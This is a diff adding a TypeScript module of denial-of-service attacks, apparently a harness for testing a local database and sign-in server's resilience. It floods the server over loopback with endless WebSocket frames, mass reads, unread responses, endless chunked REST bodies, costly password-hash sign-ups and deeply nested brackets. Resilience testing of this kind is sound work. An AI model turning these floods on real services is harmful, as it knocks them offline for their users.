@@ -1,0 +1,192 @@
+import { randomBytes } from 'node:crypto';
+import { connect, type Socket } from 'node:net';
+
+/** Where the attack comes from; loopback has many addresses. */
+export const ATTACKER = '127.0.0.2';
+
+/** A bare connection to the server from the attacker's address, that reads only where told. */
+export interface Bot {
+  socket: Socket;
+  closed: boolean;
+  /** Bytes that came. */
+  heard: number;
+}
+
+function openConnection(port: number): Promise<Bot> {
+  const socket = connect({ port, host: '127.0.0.1', localAddress: ATTACKER, noDelay: true });
+  const bot: Bot = { socket, closed: false, heard: 0 };
+  socket.on('error', () => undefined);
+  socket.on('close', () => {
+    bot.closed = true;
+  });
+  socket.on('data', (chunk) => {
+    bot.heard += chunk.length;
+  });
+  return new Promise((resolve) => {
+    socket.once('connect', () => resolve(bot));
+    socket.once('close', () => resolve(bot));
+  });
+}
+
+/** A WebSocket of the database, its hello read. */
+export async function openBot(port: number): Promise<Bot> {
+  const bot = await openConnection(port);
+  bot.socket.write(
+    `GET /.ws?v=5&ns=lig HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
+      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
+  );
+  await new Promise<void>((resolve) => {
+    bot.socket.once('data', () => resolve());
+    bot.socket.once('close', () => resolve());
+  });
+  return bot;
+}
+
+/** A masked text frame, the mask being zero. */
+export function frame(text: string): Buffer {
+  const payload = Buffer.from(text);
+  const long = payload.length > 65_535 ? 10 : payload.length > 125 ? 4 : 2;
+  const head = Buffer.alloc(long + 4);
+  head[0] = 0x81;
+  head[1] = 0x80 | (long === 10 ? 127 : long === 4 ? 126 : payload.length);
+  if (long === 10) head.writeBigUInt64BE(BigInt(payload.length), 2);
+  else if (long === 4) head.writeUInt16BE(payload.length, 2);
+  return Buffer.concat([head, payload]);
+}
+
+/** So many requests in one write. */
+export function requests(count: number, a: string, b: unknown): Buffer {
+  return Buffer.concat(
+    Array.from({ length: count }, (_, i) => frame(JSON.stringify({ t: 'd', d: { r: i + 1, a, b } }))),
+  );
+}
+
+/** An attack under way. */
+export interface Attack {
+  /** What the attacker's sockets are by now. */
+  bots: Bot[];
+  stop(): void;
+}
+
+/** How hard an attack tries. */
+export interface Force {
+  sockets: number;
+  /** Requests or frames of each socket. */
+  each: number;
+}
+
+type Start = (port: number, force: Force) => Promise<Attack>;
+
+async function several(port: number, count: number, act: (bot: Bot) => void): Promise<Attack> {
+  const bots: Bot[] = [];
+  for (let i = 0; i < count; i++) {
+    const bot = await openBot(port);
+    bots.push(bot);
+    act(bot);
+  }
+  return {
+    bots,
+    stop: () => {
+      for (const { socket } of bots) socket.destroy();
+    },
+  };
+}
+
+/** Goes on with `act` on each socket, opening another where one was closed. */
+async function persistent(port: number, count: number, pause: number, act: (bot: Bot) => void): Promise<Attack> {
+  const attack = await several(port, count, act);
+  let over = false;
+  const loop = async (i: number): Promise<void> => {
+    while (!over) {
+      await new Promise((resolve) => setTimeout(resolve, pause));
+      if (over) break;
+      if (attack.bots[i]?.closed !== false) attack.bots[i] = await openBot(port);
+      act(attack.bots[i] as Bot);
+    }
+  };
+  const loops = attack.bots.map((_, i) => loop(i));
+  return {
+    bots: attack.bots,
+    stop: () => {
+      over = true;
+      attack.stop();
+      void Promise.all(loops).then(attack.stop);
+    },
+  };
+}
+
+const READ = { p: 'matches', q: {} };
+const unfinished = 'x'.repeat(900 * 1024);
+
+/** What was found against the server, each as its title says. None of them signs in. */
+export const ATTACKS: Readonly<Record<string, Start>> = {
+  'messages of 900 kB frames that never end': (port, { sockets, each }) =>
+    several(port, sockets, ({ socket }) => {
+      socket.write(frame('1000'));
+      for (let i = 0; i < each; i++) socket.write(frame(unfinished));
+    }),
+  'messages of small frames that never end': (port, { sockets, each }) =>
+    persistent(port, sockets, 100, ({ socket }) => {
+      socket.write(frame('1000'));
+      for (let i = 0; i < each; i++) socket.write(frame(unfinished.slice(0, 16_384)));
+    }),
+  'thousands of reads in one message': (port, { sockets, each }) =>
+    persistent(port, sockets, 1000, ({ socket }) => socket.write(requests(each, 'g', READ))),
+  'reads whose answers nobody takes': (port, { sockets, each }) =>
+    several(port, sockets, ({ socket }) => {
+      socket.pause();
+      socket.write(requests(each, 'g', READ));
+    }),
+  'sockets that ask and leave': (port, { sockets, each }) =>
+    persistent(port, sockets, 300, ({ socket }) => {
+      socket.write(requests(each, 'g', READ), () => setTimeout(() => socket.destroy(), 5));
+    }),
+  'REST reads without end': (port, { sockets, each }) => {
+    const text = `GET /matches.json?ns=lig HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`.repeat(each);
+    return restAttack(port, sockets, text);
+  },
+  'REST bodies that never end': (port, { sockets, each }) => {
+    const head = `PUT /x.json?ns=lig HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nTransfer-Encoding: chunked\r\n\r\n`;
+    return restAttack(port, sockets, `${head}${'10000\r\n'.concat('x'.repeat(65_536), '\r\n').repeat(each)}`);
+  },
+  // A hash costs 19 MB and tens of milliseconds, also for an account of the attacker's own.
+  'wrong passwords without end': (port, { sockets }) => {
+    const body = () => JSON.stringify({ email: `bot${Math.random()}@example.com`, password: 'parola-parola' });
+    const post = (text: string) =>
+      `POST /identitytoolkit.googleapis.com/v1/accounts:signUp?key=x HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n` +
+      `Content-Type: application/json\r\nContent-Length: ${text.length}\r\n\r\n${text}`;
+    return restAttack(port, sockets, () => post(body()));
+  },
+  'brackets without end': (port, { sockets, each }) =>
+    persistent(port, sockets, 200, ({ socket }) => {
+      const deep = JSON.stringify({ t: 'd', d: { r: 1, a: 'p', b: { p: 'x', d: 0 } } }).replace(
+        ':0',
+        `:${'['.repeat(16_000)}`,
+      );
+      for (let i = 0; i < each; i++) socket.write(frame(deep));
+    }),
+};
+
+async function restAttack(port: number, sockets: number, text: string | (() => string)): Promise<Attack> {
+  const bots: Bot[] = [];
+  let over = false;
+  const loop = async (i: number): Promise<void> => {
+    while (!over) {
+      const bot = await openConnection(port);
+      bots[i] = bot;
+      bot.socket.write(typeof text === 'string' ? text : text());
+      for (let waited = 0; waited < 10 && !bot.closed && !over; waited++) {
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      bot.socket.destroy();
+    }
+  };
+  for (let i = 0; i < sockets; i++) void loop(i);
+  return {
+    bots,
+    stop: () => {
+      over = true;
+      for (const bot of bots) bot?.socket.destroy();
+    },
+  };
+}
